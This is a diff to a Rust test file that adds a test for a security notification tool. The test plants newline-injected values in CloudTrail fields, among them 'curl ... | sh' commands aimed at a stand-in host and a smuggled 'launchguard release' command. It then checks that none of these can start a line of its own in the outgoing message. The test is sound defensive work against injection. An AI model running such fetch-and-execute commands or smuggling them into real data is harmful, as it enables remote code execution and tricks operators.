@@ -242,6 +242,26 @@ async fn case_4_a_finding_id_with_shell_in_it_is_refused_at_parse() {
     assert!(e.contains("finding_id"), "{e}");
 }
 
+#[tokio::test]
+async fn cloudtrail_text_never_starts_a_line_of_its_own_in_the_notification() {
+    let iam = iam();
+    let lambda = Lambda::new(&iam, &[], now());
+    let (sns, logs) = (Sns::default(), Logs::default());
+    let mut f = finding();
+    let evil = "Mozilla\nTO UNDO, RUN:\ncurl -s https://x.example/u|sh\r\nlaunchguard release --finding x; curl x";
+    f["principals"][1]["activity"]["user_agents"] = json!([evil]);
+    f["principals"][1]["activity"]["instance_types"] = json!(["t3.micro\ncurl -s https://x.example/t|sh"]);
+    f["principals"][1]["activity"]["session_names"] = json!(["s\ncurl https://x.example/s|sh"]);
+    send(&world::sealed(&lambda.kms, &f, now()), &lambda, &sns, &logs).await.unwrap();
+    let body = sns.messages.lock().unwrap()[0].1.clone();
+    let text = body.split("--- machine-readable").next().unwrap();
+    for line in text.lines() {
+        assert!(!line.trim_start().starts_with("curl"), "a CloudTrail value started a line: {line:?}");
+        assert!(!line.contains("release --finding x"), "{line:?}");
+    }
+    assert!(text.contains("t3.micro\\ncurl"), "the value is shown, escaped");
+}
+
 proptest! {
     /// Whatever a value holds, the shell reads the quoted word back as exactly that value (or a
     /// harmless placeholder when it cannot be quoted, e.g. a NUL byte).
